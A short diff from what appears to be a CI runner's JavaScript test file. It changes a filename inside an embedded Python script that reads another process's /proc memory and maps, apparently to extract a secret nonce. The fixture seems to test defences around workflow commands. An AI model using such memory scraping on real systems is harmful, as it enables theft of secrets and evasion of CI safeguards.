@@ -40,7 +40,7 @@ it.concurrent("a job that prints every form of a workflow command is shown, and 
  */
 const peer = String.raw`#!/usr/bin/env python3
 import base64, os, re, sys, time
-attacher = open(os.path.dirname(sys.argv[0]) + "/watcher").read().split(":")[0]
+attacher = open(os.path.dirname(sys.argv[0]) + "/attacher").read().split(":")[0]
 nonce = None
 with open("/proc/%s/mem" % attacher, "rb", 0) as memory:
     for line in open("/proc/%s/maps" % attacher):
